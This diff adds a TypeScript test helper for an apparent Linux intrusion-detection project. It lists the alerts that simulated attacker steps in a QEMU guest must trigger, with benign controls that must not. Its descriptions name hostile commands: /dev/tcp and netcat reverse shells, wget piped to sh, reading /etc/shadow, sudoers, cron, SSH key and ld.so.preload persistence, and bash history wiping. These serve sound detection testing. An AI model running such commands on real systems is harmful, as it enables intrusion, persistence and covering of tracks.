@@ -1,0 +1,303 @@
+// What driver/tests/guest/vigil-exercise.c did in the QEMU guest (its
+// exercise.json), and which default rules its attacker steps must fire when the
+// captured /dev/vigil stream goes through the pipeline: one alert per attack,
+// on the process that did it, and nothing for the benign look-alikes. Shared by
+// test/e2e/driver-stream.test.ts (committed fixture) and
+// test/qemu/driver-in-qemu.test.ts (the stream of that very run).
+
+import { existsSync, readdirSync, readFileSync } from "node:fs";
+import { join, resolve } from "node:path";
+import type { EcsDocument } from "@vigil/common";
+
+export const REPO = resolve(__dirname, "../..");
+export const DEFAULT_RULES_DIR = join(REPO, "rules/linux");
+
+/** Static bash for the guest (busybox sh has no /dev/tcp): apt-get install bash-static. */
+export const GUEST_BASH = "/bin/bash-static";
+
+/**
+ * run-guest.sh options for a capture the rules can be checked against: the
+ * file hooks watch the exercise's directory plus /etc/ and /root/ (where the
+ * persistence files go), and bash is in the guest.
+ */
+export const EXERCISE_GUEST_ARGS = [
+  "-c",
+  "watch /tmp/watched/",
+  "-c",
+  "watch /etc/",
+  "-c",
+  "watch /root/",
+  "-a",
+  GUEST_BASH,
+];
+
+/** Throws naming the package when the guest's bash is missing (no silent skip). */
+export function assertGuestBash(): void {
+  if (!existsSync(GUEST_BASH)) {
+    throw new Error(`${GUEST_BASH} not found: apt-get install bash-static (the guest's /bin/bash)`);
+  }
+}
+
+/** One command the guest program ran: {"pid","executable","argv","exitCode"}. */
+export interface GuestCommand {
+  pid: number;
+  executable: string;
+  argv: string[];
+  /** Set for a #! script: the kernel then reports argv as [interpreter, script, args...]. */
+  interpreter?: string;
+  exitCode: number;
+}
+
+export interface GuestConnection extends GuestCommand {
+  remoteIp: string;
+  port: number;
+  /** 1 when the program's listener saw the connection, else -errno. */
+  connected: number;
+}
+
+/** The attacker part of exercise.json (see the comment at the top of vigil-exercise.c). */
+export interface DriverExercise {
+  pid: number;
+  argv: string[];
+  setup: { pid: number; remoteIp: string; addressResult: number; bashResult: number };
+  attacks: {
+    privesc: GuestCommand & { uid: number; dropResult: number; regainResult: number; rootResult: number };
+    tempExec: GuestCommand;
+    cron: GuestCommand;
+    sudoers: GuestCommand;
+    ldPreload: { pid: number; path: string; exitCode: number };
+    authorizedKeys: GuestCommand;
+    devTcp: GuestConnection;
+    netcat: GuestConnection;
+    download: GuestConnection;
+    moduleLoad: GuestCommand;
+    accountCreation: GuestCommand;
+    historyDelete: GuestCommand;
+    historyDisable: GuestCommand;
+  };
+  benign: {
+    catPasswd: GuestCommand;
+    motd: GuestCommand;
+    probeStandardPort: GuestConnection;
+    probeLoopback: GuestConnection;
+  };
+}
+
+export function readExercise(path: string): DriverExercise {
+  const exercise = JSON.parse(readFileSync(path, "utf8")) as DriverExercise;
+  if (typeof exercise.attacks !== "object" || typeof exercise.benign !== "object") {
+    throw new Error(`${path}: no "attacks"/"benign" sections: not from the current vigil-exercise.c`);
+  }
+  return exercise;
+}
+
+/** A default rule by its file name (without .yml): id and title from the file, category from its folder. */
+export interface RuleRef {
+  file: string;
+  id: string;
+  title: string;
+  category: string;
+}
+
+export function loadRuleRefs(dir = DEFAULT_RULES_DIR): Map<string, RuleRef> {
+  const refs = new Map<string, RuleRef>();
+  for (const category of readdirSync(dir)) {
+    for (const name of readdirSync(join(dir, category)).filter((n) => n.endsWith(".yml"))) {
+      const text = readFileSync(join(dir, category, name), "utf8");
+      const id = /^id:\s*(\S+)/m.exec(text)?.[1];
+      const title = /^title:\s*(.+)$/m.exec(text)?.[1]?.trim();
+      const file = name.replace(/\.yml$/, "");
+      if (id && title) refs.set(file, { file, id, title, category });
+    }
+  }
+  return refs;
+}
+
+/** The rule categories the exercise's steps are about; every rule in them fires or is listed below. */
+export const EXERCISED_CATEGORIES = [
+  "process_creation",
+  "file_event",
+  "file_access",
+  "network_connection",
+  "privilege_change",
+];
+
+/** Default rules of those categories no step of the guest can fire, and why. */
+export const RULES_NOT_EXERCISED: Record<string, string> = {
+  proc_creation_lnx_reverse_shell_socat: "the guest has no socat",
+  proc_creation_lnx_reverse_shell_interpreter: "the guest has no Python, Perl, Ruby or PHP",
+  file_access_lnx_shadow_unexpected_reader:
+    "vigil.ko reports opens for writing only (FILE_OPEN_WRITE), never a read-only open of /etc/shadow",
+};
+
+export interface ExpectedAlert {
+  /** Rule file name without .yml. */
+  rule: string;
+  /** The acting process; with `orChildOf`, a process forked by it (no exec in between) also matches. */
+  pid: number;
+  orChild?: boolean;
+  /** Must match the alert document (toMatchObject). */
+  fields: EcsDocument;
+  why: string;
+}
+
+/** The kernel's argv for a command: a #! script's is [interpreter, script path, arguments...]. */
+export function kernelArgv(command: GuestCommand): string[] {
+  return command.interpreter
+    ? [command.interpreter, command.executable, ...command.argv.slice(1)]
+    : command.argv;
+}
+
+function ran(command: GuestCommand): EcsDocument {
+  return { process: { pid: command.pid, executable: command.executable, args: kernelArgv(command) } };
+}
+
+/** The program itself, for steps done by a forked child without exec. */
+function forkedFrom(exercise: DriverExercise, pid: number): EcsDocument {
+  return { process: { pid, executable: exercise.argv[0], args: exercise.argv } };
+}
+
+export function expectedAlerts(exercise: DriverExercise): ExpectedAlert[] {
+  const a = exercise.attacks;
+  return [
+    {
+      rule: "priv_change_lnx_root_from_unprivileged",
+      pid: a.privesc.pid,
+      fields: forkedFrom(exercise, a.privesc.pid),
+      why: `setresuid(-1, 0, -1) by uid ${a.privesc.uid} with saved uid 0`,
+    },
+    {
+      rule: "proc_creation_lnx_shadow_file_read",
+      pid: a.privesc.pid,
+      fields: ran(a.privesc),
+      why: "cat /etc/shadow",
+    },
+    {
+      rule: "proc_creation_lnx_exec_from_temp_dir",
+      pid: a.tempExec.pid,
+      fields: ran(a.tempExec),
+      why: "binary copied to /tmp and run",
+    },
+    {
+      rule: "file_event_lnx_cron_modification",
+      pid: a.cron.pid,
+      fields: { ...ran(a.cron), file: { path: "/etc/cron.d/vigil-job" } },
+      why: "echo ... > /etc/cron.d/vigil-job",
+    },
+    {
+      rule: "file_event_lnx_sudoers_modification",
+      pid: a.sudoers.pid,
+      fields: { ...ran(a.sudoers), file: { path: "/etc/sudoers.d/vigil" } },
+      why: "echo ... > /etc/sudoers.d/vigil",
+    },
+    {
+      rule: "file_event_lnx_ld_so_preload",
+      pid: a.ldPreload.pid,
+      fields: { ...forkedFrom(exercise, a.ldPreload.pid), file: { path: a.ldPreload.path } },
+      why: "open(/etc/ld.so.preload, O_CREAT|O_APPEND)",
+    },
+    {
+      rule: "file_event_lnx_ssh_authorized_keys",
+      pid: a.authorizedKeys.pid,
+      fields: { ...ran(a.authorizedKeys), file: { path: "/root/.ssh/authorized_keys" } },
+      why: "echo key >> /root/.ssh/authorized_keys",
+    },
+    {
+      rule: "proc_creation_lnx_reverse_shell_dev_tcp",
+      pid: a.devTcp.pid,
+      fields: ran(a.devTcp),
+      why: "bash -c 'bash -i >& /dev/tcp/... 0>&1'",
+    },
+    {
+      // bash forks for the redirection + exec of `bash -i`: the connecting process is that child, still bash.
+      rule: "net_connection_lnx_shell_nonstandard_port",
+      pid: a.devTcp.pid,
+      orChild: true,
+      fields: {
+        process: { executable: a.devTcp.executable, args: a.devTcp.argv },
+        destination: { ip: a.devTcp.remoteIp, port: a.devTcp.port },
+      },
+      why: "bash connected to the listener through /dev/tcp",
+    },
+    {
+      rule: "proc_creation_lnx_reverse_shell_netcat",
+      pid: a.netcat.pid,
+      fields: ran(a.netcat),
+      why: "nc HOST PORT -e /bin/sh",
+    },
+    {
+      rule: "proc_creation_lnx_download_piped_to_shell",
+      pid: a.download.pid,
+      fields: ran(a.download),
+      why: "wget -O - URL | sh",
+    },
+    {
+      rule: "proc_creation_lnx_kernel_module_load",
+      pid: a.moduleLoad.pid,
+      fields: ran(a.moduleLoad),
+      why: "insmod (refused: the module is loaded already; the attempt is what counts)",
+    },
+    {
+      rule: "proc_creation_lnx_account_creation",
+      pid: a.accountCreation.pid,
+      fields: ran(a.accountCreation),
+      why: "useradd",
+    },
+    {
+      rule: "proc_creation_lnx_history_tampering",
+      pid: a.historyDelete.pid,
+      fields: ran(a.historyDelete),
+      why: "rm -f /root/.bash_history",
+    },
+    {
+      rule: "proc_creation_lnx_history_tampering",
+      pid: a.historyDisable.pid,
+      fields: ran(a.historyDisable),
+      why: "sh -c 'unset HISTFILE; ...'",
+    },
+  ];
+}
+
+export interface AlertMatch {
+  matched: Array<{ expected: ExpectedAlert; alert: EcsDocument }>;
+  /** Expected alerts with no stored alert. */
+  missing: string[];
+  /** Stored alerts nothing expected: "<rule file> pid <pid> <command line>". */
+  unexpected: string[];
+}
+
+function get(doc: EcsDocument, path: string): unknown {
+  let at: unknown = doc;
+  for (const key of path.split(".")) at = (at as EcsDocument | undefined)?.[key];
+  return at;
+}
+
+/** Pairs stored alerts with the expected ones; each alert is used once. */
+export function matchAlerts(
+  alerts: EcsDocument[],
+  exercise: DriverExercise,
+  rules = loadRuleRefs(),
+): AlertMatch {
+  const fileById = new Map([...rules.values()].map((rule) => [rule.id, rule.file]));
+  const pool = alerts.map((alert) => ({ alert, rule: fileById.get(String(get(alert, "rule.id"))) ?? "?" }));
+  const result: AlertMatch = { matched: [], missing: [], unexpected: [] };
+  for (const expected of expectedAlerts(exercise)) {
+    const index = pool.findIndex(
+      ({ alert, rule }) =>
+        rule === expected.rule &&
+        (get(alert, "process.pid") === expected.pid ||
+          (expected.orChild === true && get(alert, "process.parent.pid") === expected.pid)),
+    );
+    if (index < 0) {
+      result.missing.push(`${expected.rule} pid ${expected.pid} (${expected.why})`);
+      continue;
+    }
+    result.matched.push({ expected, alert: pool[index].alert });
+    pool.splice(index, 1);
+  }
+  result.unexpected = pool.map(
+    ({ alert, rule }) =>
+      `${rule} pid ${String(get(alert, "process.pid"))} ${String(get(alert, "process.command_line") ?? "")}`,
+  );
+  return result;
+}
